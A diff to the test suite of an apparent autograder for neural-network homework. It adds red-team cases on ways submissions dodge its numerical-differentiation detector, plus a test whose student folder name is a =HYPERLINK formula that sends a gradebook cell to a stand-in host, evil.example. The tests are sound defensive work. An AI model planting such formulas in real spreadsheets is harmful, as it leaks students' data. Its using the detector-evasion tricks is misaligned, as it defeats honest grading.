@@ -11,6 +11,7 @@ when fixed.
 from __future__ import annotations
 
 import contextlib
+import csv
 import io
 import json
 import subprocess
@@ -75,6 +76,13 @@ NUMERICAL = [
         _FLIPPED.format("SquaredError differencing each element's own term earns full credit"))),
     # held: C re-runs of the row losses per backward is seen as work growing with the input's size
     pytest.param("rt5_numdiff_flipped_losses", "CrossEntropy", id="flipped-cross-entropy-columns"),
+    pytest.param("rt5_numdiff_batched_class_steps", "CrossEntropy", id="cross-entropy-batched-class-steps",
+                 marks=_open("every nudged copy of the logits at once, z[:, None, :] ± h·I, an (N, C, C) tensor "
+                             "that Watch.see never compares (its size is no input's, nor 2-4 times one), the "
+                             "row losses re-run in a handful of ops, differences in float64: CrossEntropy "
+                             "earns its full 25 points")),
+    # held: the batched nudges of weight and bias are seen (9 of 10 cases)
+    pytest.param("rt5_numdiff_batched_linear", "Linear", id="linear-batched-basis-steps"),
     pytest.param("rt5_numdiff_complex_step_in_pairs", "Sigmoid", id="complex-step-in-real-pairs", marks=_open(
         "the complex step Im f(z + ih)/h computed on (real, imaginary) pairs of real tensors: no complex "
         "tensor for Watch.complex, no nudged copy (h lives only in the imaginary part), exact to machine "
@@ -123,6 +131,7 @@ def test_a_decoy_that_learns_the_gain_during_backward_earns_nothing(tmp_path):
 
 HW2_FAIR = [
     pytest.param("rt5_fair_mlp_recursive_parameter_list", id="recursive-forward-parameter-list"),
+    pytest.param("rt5_fair_mlp_layer_dict", id="layer-modules-in-module-dict-reversed-steps"),
     pytest.param("rt5_fair_mlp_name_table_checked", id="name-dict-also-membership-tested", marks=_open(
         "false positive: getattr(self.functions, _ACTIVATION[...]) with _ACTIVATION a module-level dict of "
         "handed names is refused as an escape (0/100 for the whole file) once the same dict is also used "
@@ -171,3 +180,24 @@ def test_a_format_template_through_getattr_shows_no_frame_in_feedback(tmp_path):
     assert results["score"] == 0
     shown = run.stdout + json.dumps(results)
     assert "'job'" not in shown and "run_case" not in shown, shown[:3000]
+
+
+# ----------------------------------------------------------------------------------------------
+# The gradebook: a folder name is student text too (LMS exports name folders after the student). A cell
+# that starts with = + - @ is a formula to the spreadsheet the instructor opens the CSV in.
+
+@pytest.mark.sandbox
+@pytest.mark.xfail(strict=True, reason=(
+    "cli_batch._write_csv writes the student column verbatim: a folder named `=HYPERLINK(...)` is a live "
+    "formula in the gradebook (CSV/formula injection); prefix such cells with a quote"))
+def test_a_student_folder_name_is_no_formula_in_the_gradebook(tmp_path):
+    name = '=HYPERLINK("http://evil.example/?"&B3,"details")'
+    (tmp_path / "subs" / name).mkdir(parents=True)
+    (tmp_path / "subs" / name / "functions.py").write_text(STUB1.read_text())
+    book = tmp_path / "grades.csv"
+    run = subprocess.run([sys.executable, "-m", "course_nn", "grade-batch", str(tmp_path / "subs"), "-a", "hw1",
+                          "--jobs", "1", "--csv", str(book), "--quiet"], capture_output=True, text=True, timeout=300)
+    assert book.exists(), run.stderr[-2000:]
+    cells = [cell for row in csv.reader(io.StringIO(book.read_text())) for cell in row]
+    assert any("evil.example" in c for c in cells)
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
